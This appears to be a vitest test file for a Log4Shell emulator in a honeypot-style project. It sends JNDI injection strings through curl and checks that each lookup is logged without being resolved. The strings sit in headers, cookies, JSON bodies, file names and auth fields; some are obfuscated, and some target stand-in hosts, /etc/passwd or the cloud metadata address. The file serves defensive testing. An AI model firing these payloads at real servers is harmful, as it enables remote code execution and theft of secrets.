import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import log4shell from '../../src/emulators/log4shell/index.ts'
import { accountsOnly } from '../emulators/hosts.ts'
import { type Playing, play } from '../harness.ts'
import { type Probe, probes } from '../http/probes.ts'
import { nmapNames, ran } from './ran.ts'

const run = promisify(execFile)
let playing: Playing

beforeAll(async () => {
  playing = await play(log4shell, {
    persona: 'debian-web',
    hosts: accountsOnly(),
    // nmap asks at the game's own port alone, as a game does, before it tries all else.
    ports: [0, 0, 0, 0, 25_565],
    settings: { limits: { connectionsPerSource: 200 } },
  })
})
afterAll(() => playing.stop())

describe('curl', () => {
  it('sees the page of the application, and its lookups are written down', async () => {
    const before = playing.data('jndi.lookup').length
    const address = `http://127.0.0.1:${playing.port(2)}`
    const { stdout } = await run('curl', ['-sS', '-H', 'X-Api-Version: ${jndi:ldap://127.0.0.1:1389/a}', `${address}/`])
    expect(stdout).toContain('Apache Tomcat/9.0.54')
    await run('curl', ['-sS', '-A', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', `${address}/`])
    await run('curl', ['-sSg', `${address}/%24%7Bjndi:dns://y.example%7D`])
    expect(
      playing
        .data('jndi.lookup')
        .slice(before)
        .map(({ host }) => host),
    ).toEqual(['127.0.0.1', 'x.example', 'y.example'])
  })
})

describe('a lookup', () => {
  const lookups = (): { host?: string; location?: string }[] => playing.data('jndi.lookup')
  const curl = (...args: string[]): Promise<string> => ran('curl', ['-sSg', '--max-time', '10', ...args]).then(({ stdout }) => stdout)
  const page = (): string => `http://127.0.0.1:${playing.port(0)}/`

  it.each([
    ['a body of JSON', ['-H', 'Content-Type: application/json', '-d', '{"a":"${jndi:ldap://json.example/a}"}'], 'json.example'],
    ['the name of a file', ['-F', 'file=@/etc/hostname;filename=${jndi:dns://file.example}'], 'file.example'],
    ['a cookie', ['-b', 'a=${jndi:rmi://cookie.example/a}'], 'cookie.example'],
    ['a user of basic authentication', ['-u', '${jndi${env:X:-:}ldap${env:X:-:}//basic.example/a}:x'], 'basic.example'],
    ['an address that is near', ['-H', 'X: ${jndi:http://169.254.169.254/latest}'], '169.254.169.254'],
  ])('in %s is written down once', async (_, args, host) => {
    await curl(...args, page())
    expect(lookups().filter((one) => one.host === host)).toHaveLength(1)
  })

  const recorded = probes().filter((probe) => probe.class === 'jndi')
  it.each(
    recorded.map((probe): [string, Probe] => [probe.name, probe]),
  )('of the recorded probe %s is written down with whom it points at', async (_, { method, path, headers, body }) => {
    const before = lookups().length
    const lines = Object.entries(headers).flatMap(([name, value]) => ['-H', `${name}: ${value}`])
    // As its target, so that nothing is left out behind a #.
    const target = ['--request-target', path, `http://127.0.0.1:${playing.port(2)}/`]
    await curl('-X', method, ...lines, ...(body ? ['--data-raw', body] : []), ...target)
    const found = lookups().slice(before)
    expect(found.length).toBeGreaterThan(0)
    for (const { host } of found) expect(host).toMatch(/oob\.example\.net$/)
  })

  it('of a file is written down and not looked up', async () => {
    const before = lookups().length
    expect(await curl(`${page()}?a=$\{jndi:file:///etc/passwd}`)).not.toContain('root:')
    expect(lookups().slice(before)).toHaveLength(1)
  })

  it('nested 5 MB deep costs little, and the next is answered as ever', async () => {
    const body = Buffer.from('${jndi:ldap://'.repeat(370_000))
    const startedAt = performance.now()
    await ran('curl', ['-sS', '-o', '/dev/null', '-H', 'Expect:', '--data-binary', '@-', page()], body)
    expect(performance.now() - startedAt).toBeLessThan(10_000)
    // The event says how much came and has its beginning.
    const request = playing.data<{ bodyBytes: number; body: string }>('log4shell.request').at(-1)
    expect([request?.bodyBytes, (request?.body.length ?? 0) <= 16 * 1024]).toEqual([body.length, true])
    expect(await curl(page())).toContain('Staff Portal')
    expect(playing.data('lure.fault')).toEqual([])
  }, 30_000)
})

describe('nmap', () => {
  // It has no line of its own for Tomcat 9 and UniFi, as for the real ones: the title says what is there.
  it('takes the last port for Minecraft', async () => {
    expect(await nmapNames(playing.port(4))).toMatch(/^minecraft +Minecraft 1\.18/)
  }, 130_000)

  it('names an application on each port, and no Python', async () => {
    const ports = [0, 1, 2, 3].map((index) => playing.port(index)).join(',')
    const args = ['-n', '-Pn', '-sT', '-sV', '--version-intensity', '2', '--script', '+http-title', '-p', ports, '127.0.0.1']
    const { stdout } = await ran('nmap', args, undefined, 170_000)
    expect(stdout).toMatch(/http +Apache httpd 2\.4\.51/)
    expect(stdout).toMatch(/ssl\/[\s\S]*UniFi Network/)
    expect(stdout).toMatch(/http-title: Apache Tomcat\/9\.0\.54/)
    expect(stdout).toMatch(/http +Elasticsearch REST API 5\.6\.16/)
    expect(stdout).not.toMatch(/Python|BaseHTTP/i)
  }, 180_000)
})
